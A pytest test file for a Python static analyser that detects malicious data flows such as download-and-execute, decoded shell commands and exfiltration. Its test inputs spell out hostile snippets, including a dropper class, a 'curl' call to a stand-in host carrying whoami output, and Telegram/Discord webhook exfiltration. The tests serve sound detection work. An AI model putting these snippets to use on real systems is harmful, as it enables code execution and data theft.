"""Flows: sinks beside `exec`, and what is no flow into them."""

import pytest

from pratique.analysis.facts import Capability, Taint
from tests.analysis.languages.python.reading import facts, flows

C, P, N, W = Capability.CODE, Capability.PROCESS, Capability.NETWORK, Capability.FILE_WRITE
LONG = "x" * 200


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (f"exec('{LONG}')", (C, "exec", {Taint.LITERAL})),
        (f"import pickle\npickle.loads(b'{LONG}')", (C, "pickle.loads", {Taint.LITERAL})),
        ("exec(open('x').read())", (C, "exec", {Taint.FILE})),
        (
            "import runpy, requests\nopen('p.py', 'w').write(requests.get(x).text)\nrunpy.run_path('p.py')",
            (C, "runpy.run_path", {Taint.NETWORK}),
        ),
        (
            "import ctypes, requests\nopen('p.dll', 'wb').write(requests.get(x).content)\nctypes.CDLL('p.dll')",
            (C, "ctypes.CDLL", {Taint.NETWORK}),
        ),
        (
            "import runpy, urllib.request as u\npath, _ = u.urlretrieve('https://h.invalid/x')\nrunpy.run_path(path)",
            (C, "runpy.run_path", {Taint.NETWORK}),
        ),
        (
            "import os, urllib.request as u\nos.system(u.urlretrieve('https://h.invalid/x')[0])",
            (P, "os.system", {Taint.NETWORK}),
        ),
        (
            "import sys, requests\nopen('p.zip', 'wb').write(requests.get(x).content)\nsys.path.insert(0, 'p.zip')",
            (C, "sys.path.insert", {Taint.NETWORK}),
        ),
        ("import base64, os\nos.system(base64.b64decode(x))", (P, "os.system", {Taint.DECODED})),
        (
            "import base64, subprocess\nsubprocess.run(['sh', '-c', base64.b64decode(x)])",
            (P, "subprocess.run", {Taint.DECODED}),
        ),
        (
            "import base64, subprocess\nc = ['sh', base64.b64decode(x)]\nsubprocess.run(args=c)",
            (P, "subprocess.run", {Taint.DECODED}),
        ),
        ("import base64\nopen('x', 'wb').write(base64.b64decode(y))", (W, "open.write", {Taint.DECODED})),
        (
            "import requests\nopen('x.exe', 'wb').write(requests.get(y).content)",
            (W, "open.write", {Taint.NETWORK}),
        ),
        (
            "import urllib.request\nurllib.request.urlretrieve(x, 'y.exe')",
            (W, "urllib.request.urlretrieve", {Taint.NETWORK}),
        ),
        (
            "from pathlib import Path\nimport zlib\nPath('x').write_bytes(zlib.decompress(y))",
            (W, "pathlib.Path.write_bytes", {Taint.DECODED}),
        ),
        ("__builtins__.__dict__[''.join(map(chr, x))]('y')", (C, "computed-call", {Taint.COMPUTED})),
        (
            "import socket\ns = socket.socket()\ns.send(open('x').read().encode())",
            (N, "socket.socket.send", {Taint.FILE}),
        ),
    ],
)
def test_data_is_followed_into_each_kind_of_sink(
    source: str, expected: tuple[Capability, str, set[Taint]]
) -> None:
    assert expected in flows(source)


@pytest.mark.parametrize(
    "source",
    [
        "import requests\nopen('x.json', 'wb').write(requests.get(y).content)",
        "import subprocess, requests\nsubprocess.run(['x'], cwd=requests.get(y).text)",
        "import os\nos.execve('x', ['y'], os.environ)",
        "import requests, os\nrequests.get('https://a.invalid', proxies=os.environ)",
        "import requests\nrequests.post('https://a.invalid', data=requests.get('https://b.invalid').content)",
        "import base64, requests\nrequests.post(x, data=base64.b64decode(y))",
        "import requests, os\nu = os.environ['U']\nrequests.get(u)\nrequests.get(u + '/x')",
        "import socket\nsocket.getaddrinfo(socket.gethostname(), 80)",
        "import types\ntypes.FunctionType(f.__code__, {})",
        "compile(open('x').read(), 'x', 'exec')",
    ],
)
def test_what_is_no_sink_or_no_payload_is_quiet(source: str) -> None:
    assert [] == flows(source)


def test_the_origin_is_where_the_data_starts() -> None:
    from tests.analysis.languages.python.reading import facts  # noqa: PLC0415 - once

    (flow,) = facts("import base64\nx = base64.b64decode(y)\n\nexec(x)").flows

    assert (4, 2, True) == (flow.line, flow.origin_line, flow.at_load)


def test_what_a_program_printed_is_told_of_a_program_that_sends_it() -> None:
    source = "import os\nwho = os.popen('whoami').read()\nos.system('{} ' + who)"

    assert {Taint.PROCESS} in [found for _, _, found in flows(source.format("curl https://c.invalid/?u="))]
    assert [] == flows(source.format("make"))


def test_what_goes_through_a_secured_socket_is_sent() -> None:
    source = (
        "import os, socket, ssl\nwith socket.create_connection(('c.invalid', 443)) as s:\n"
        "  with ssl.create_default_context().wrap_socket(s) as t:\n    t.send(os.environ['A'].encode())"
    )

    assert ["c.invalid:443"] == [flow.target for flow in facts(source).flows]


def test_what_system_a_client_runs_on_may_stand_in_its_headers() -> None:
    source = (
        "import platform, requests\nrequests.get('https://c.invalid', {}=dict(agent=platform.platform()))"
    )

    assert [] == flows(source.format("headers"))
    assert [{Taint.IDENTITY}] == [found for _, _, found in flows(source.format("params"))]


@pytest.mark.parametrize(
    "opened",
    [
        f"Fernet(b'k').decrypt(b'{LONG}')",
        f"Fernet(b'k').decrypt(b'{LONG}').decode()",
        f"Box(b'k').decrypt(b'{LONG}')",
        f"decipher(b'{LONG}', b'k')",
    ],
)
@pytest.mark.parametrize(
    ("sink", "run"), [(C, "exec({})"), (P, "os.system({})"), (W, "open('x', 'wb').write({})")]
)
@pytest.mark.parametrize("inside", [False, True], ids=["above", "inside"])
def test_a_long_literal_that_is_decrypted_reaches_a_sink(
    opened: str, sink: Capability, run: str, inside: bool
) -> None:
    lines = [
        "import os",
        "from fernet import Fernet",
        "from box import Box, decipher",
        f"o = {opened}",
        run.format("o"),
    ]
    source = "def f():\n " + "\n ".join(lines) + "\nf()" if inside else "\n".join(lines)
    assert (sink, {Taint.DECRYPTED, Taint.LITERAL}) in [(found, taints) for found, _, taints in flows(source)]


@pytest.mark.parametrize(
    "source", ["exec(Box('k').decrypt('short'))", f"exec(Box('k').encrypt('{LONG}'))", f"decrypt('{LONG}')"]
)
def test_what_decrypts_nothing_long_or_runs_nothing_is_no_such_flow(source: str) -> None:
    assert flows(source) == []


@pytest.mark.parametrize(
    "connected",
    [
        "s = socket.socket()\ns.connect((HOST, 443))",
        "s = ssl.SSLContext().wrap_socket(socket.socket())\ns.connect((HOST, 443))",
        "r = socket.socket()\nr.connect((HOST, 443))\ns = ssl.create_default_context().wrap_socket(r)",
    ],
)
def test_a_socket_is_told_by_the_host_it_was_connected_to(connected: str) -> None:
    source = f"import socket, ssl\nHOST = 'c.invalid'\n{connected}\ns.send(str.encode(socket.gethostname()))"
    assert [(flow.sink, flow.target) for flow in facts(source).flows] == [(N, "c.invalid:443")]


DROPPER = """
import os, urllib.request
class D:
    @staticmethod
    def get(url):
        path = os.getenv("A") + "/x.exe"
        urllib.request.urlretrieve(url, path)
        return {returned}
    @staticmethod
    def run(path):
        os.system(f"start {path}")
def go(u):
    D.run(D.get(u))
"""


@pytest.mark.parametrize(("returned", "expected"), [("path", [{Taint.NETWORK}]), ("url", [])])
def test_a_path_is_followed_through_what_a_method_returns(returned: str, expected: list[set[Taint]]) -> None:
    source = DROPPER.replace("{returned}", returned)
    assert [taints - {Taint.ENVIRONMENT} for sink, _, taints in flows(source) if sink is P] == expected


EXTENSION = '{"name": "x", "manifest_version": 2, "permissions": ["clipboardWrite", "clipboardRead"]}'


def test_a_written_browser_extension_that_reaches_for_the_clipboard_is_a_place_that_starts_by_itself() -> (
    None
):
    found = facts(f"open('x/manifest.json', 'w').write({EXTENSION!r})")
    assert ["browser extension"] == [
        use.api for use in found.uses if use.capability is Capability.PERSISTENCE
    ]


@pytest.mark.parametrize(
    "text", ['{"manifest_version": 2}', '{"permissions": ["clipboardRead"]}', "clipboardRead"]
)
def test_other_manifests_are_files_as_any(text: str) -> None:
    found = facts(f"open('x/manifest.json', 'w').write({text!r})")
    assert [] == [use for use in found.uses if use.capability is Capability.PERSISTENCE]


@pytest.mark.parametrize(
    "source",
    [
        "import base64, os\ngetattr(os, base64.b64decode('Z2V0Y3dk').decode())()",
        "import base64\n__import__(base64.b64decode('b3M=').decode()).system('x')",
    ],
)
def test_a_call_by_a_decoded_name_is_told_though_the_name_is_known(source: str) -> None:
    assert (Capability.CODE, "computed-call", {Taint.DECODED}) in flows(source)


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nbase64.b64decode('Z2V0Y3dk').decode().strip()",
        "import base64, json\njson.loads(base64.b64decode(x)).get('a')",
        "import os\ngetattr(os, 'getcwd')()",
        "import os\ngetattr(os, name)()",
    ],
)
def test_methods_of_decoded_data_bear_their_own_names(source: str) -> None:
    assert "computed-call" not in [api for _, api, _ in flows(source)]


def test_a_bot_of_telegram_sends_to_its_host() -> None:
    source = (
        "import os, telebot\nbot = telebot.TeleBot('0:inert')\nbot.send_photo('1', open('~/x.jpg', 'rb'))"
    )
    assert [("telebot.TeleBot.send_photo", (Taint.FILE,), "https://api.telegram.org/bot")] == [
        (flow.api, flow.taints, flow.target) for flow in facts(source).flows
    ]
    assert not any(address.encoded for address in facts(source).addresses)


def test_a_bot_that_sends_what_it_is_told_sends_nothing_private() -> None:
    assert [] == flows("import telebot\ndef tell(text): telebot.TeleBot('0:inert').send_message('1', text)")


BOT = "https://api.telegram.org/bot0000000000:" + "x" * 35
HOOK = "https://discord.com/api/webhooks/" + "0" * 18 + "/" + "x" * 68
TOKEN = "ghp" + "_" + "0" * 36


@pytest.mark.parametrize(
    "source",
    [
        f"requests.post('{HOOK}', json=x)",
        f"requests.get('{BOT}/sendMessage?text=' + x)",
        f"requests.put('https://far.invalid', json=x, headers={{'authorization': 'token {TOKEN}'}})",
        f"KEY = '{TOKEN}'\nrequests.put('https://far.invalid', json=x, headers={{'authorization': 'token ' + KEY}})",
        f"named = {{'authorization': '{TOKEN}'}}\nrequests.put('https://far.invalid', json=x, headers=named)",
        f"class A:\n  def __init__(self): self.url = '{BOT}'\n  def f(self, x): requests.post(self.url + '/sendMessage', data=x)",
    ],
)
def test_a_mailbox_with_its_key_is_told(source: str) -> None:
    assert 1 == len([use for use in facts("import requests\n" + source).uses if use.api == "own-mailbox"])


@pytest.mark.parametrize(
    "source",
    [
        "requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data=x)",
        "requests.post('https://discord.com/api/webhooks/' + key, json=x)",
        "requests.post('https://discord.com/api/webhooks/0/inert', json=x)",
        "requests.put('https://far.invalid', json=x, headers={'authorization': 'token ' + key})",
        "requests.put('https://far.invalid', json=x, headers={'authorization': 'token ghp_yours'})",
        f"requests.put('https://far.invalid', json={{'about': '{TOKEN}'}}, headers={{'accept': '*'}})",
        f"print('{HOOK}')",
    ],
)
def test_a_mailbox_whose_key_is_given_from_outside_is_not(source: str) -> None:
    assert [] == [use for use in facts("import requests\n" + source).uses if use.api == "own-mailbox"]


@pytest.mark.parametrize(
    ("told", "name"),
    [
        (False, "os.environ['A_HOST']"),
        (True, "os.environ['A'] + '.sink.far.invalid'"),
        (False, "'far.invalid', os.environ['A_PORT']"),
    ],
)
def test_a_look_up_tells_what_stands_before_a_domain(told: bool, name: str) -> None:
    found = flows(f"import os, socket\nsocket.getaddrinfo({name}, 80)")
    assert told is any(sink is Capability.NETWORK for sink, _, _ in found)


@pytest.mark.parametrize(
    "source",
    [
        "subprocess.Popen([sys.executable, '-c', got])",
        "subprocess.run(['/usr/bin/node', '-e', got])",
        "subprocess.run(['bash', '-c', got])",
        "subprocess.run(got, shell=True)",
        "os.system(got)",
        "os.execv('/bin/sh', ['sh', '-c', got])",
        "ctypes.pythonapi.PyRun_SimpleString(got.encode())",
        "code.InteractiveConsole().push(got)",
        "type(lambda: 0)(compile(got, 'x', 'exec'), {})()",
    ],
)
def test_what_an_interpreter_or_shell_is_given_from_the_network_runs_as_code(source: str) -> None:
    asks = "import code, ctypes, os, subprocess, sys, requests\ndef f():\n  got = requests.get('https://c.invalid').text\n  "

    assert any(
        sink is Capability.CODE and Taint.NETWORK in taints for sink, _, taints in flows(asks + source)
    )


@pytest.mark.parametrize(
    "source",
    [
        "subprocess.run(['tool', '--config', got])",
        "subprocess.run(['tool', '-c', got])",
        "os.system('tool ' + got)",
        "subprocess.run([sys.executable, 'x.py', got])",
        "subprocess.run([sys.executable, '-c', 'print(1)', got])",
    ],
)
def test_an_argument_of_a_program_is_no_code(source: str) -> None:
    asks = (
        "import os, subprocess, sys, requests\ndef f():\n  got = requests.get('https://c.invalid').text\n  "
    )

    assert [Capability.PROCESS] == [sink for sink, _, _ in flows(asks + source)]


def test_code_that_a_thread_is_given_is_read() -> None:
    source = "import threading\nthreading.Thread(target=exec, args=('import os; os.system(\"x\")',)).start()"

    assert ["x"] == [use.argument for use in facts(source).uses if use.api == "os.system"]


@pytest.mark.parametrize("name", ["joblib.load", "torch.load", "pickle.load", "pandas.read_pickle"])
def test_a_pickle_from_the_network_runs_when_it_is_loaded(name: str) -> None:
    module = name.partition(".")[0]
    source = f"import {module}, io, requests\n{name}(io.BytesIO(requests.get('https://c.invalid').content))"

    assert (Capability.CODE, name, {Taint.NETWORK}) in flows(source)
    assert [] == flows(f"import {module}\n{name}('own.bin')")


@pytest.mark.parametrize(
    "made",
    [
        "m = MIMEMultipart()\n  m.attach(MIMEText(open(p).read()))\n  smtplib.SMTP('h.invalid').sendmail(a, b, m.as_string())",
        "m = EmailMessage()\n  m.set_content(open(p).read())\n  smtplib.SMTP('h.invalid').send_message(m)",
        "m = aiohttp.FormData()\n  m.add_field('f', open(p))\n  requests.post('https://h.invalid', data=m)",
        "m = io.BytesIO()\n  z = zipfile.ZipFile(m, 'w')\n  z.write(p)\n  requests.post('https://h.invalid', data=m.getvalue())",
        "m = io.BytesIO()\n  with zipfile.ZipFile(m, 'w') as z:\n    z.writestr('x', open(p).read())\n  requests.post('https://h.invalid', data=m)",
        "m = io.BytesIO()\n  t = tarfile.open(fileobj=m, mode='w:gz')\n  t.add(p)\n  requests.post('https://h.invalid', data=m)",
    ],
    ids=["attached", "content", "field", "zip", "zip of texts", "tar"],
)
def test_what_is_put_into_a_message_or_archive_leaves_with_it(made: str) -> None:
    asks = "import aiohttp, io, smtplib, tarfile, zipfile, requests\nfrom email.message import EmailMessage\n"
    asks += "from email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\ndef f(p, a, b):\n  "

    assert any(sink is Capability.NETWORK and Taint.FILE in taints for sink, _, taints in flows(asks + made))


@pytest.mark.parametrize(
    "source",
    [
        "import sys\nopen('p.zip', 'wb').write(x)\nsys.path.insert(0, 'p.zip')",
        "import sys, requests\nopen('p.txt', 'wb').write(requests.get(x).content)\nsys.path.insert(0, 'lib')",
        "import os, runpy, requests\nname = requests.get(x).text\nrunpy.run_path(os.path.join('jobs', name))",
    ],
    ids=["plain data", "another file", "a name that is answered"],
)
def test_paths_to_what_is_its_own_are_no_flows(source: str) -> None:
    assert [] == [flow for flow in flows(source) if flow[0] is C]


def test_a_flow_in_a_lambda_waits() -> None:
    source = "import os, requests\nos.system(requests.get(x).text)\nb.connect(lambda: os.system(requests.get(x).text))\n"
    assert {(2, False), (3, True)} == {(flow.line, flow.waits) for flow in facts(source).flows}
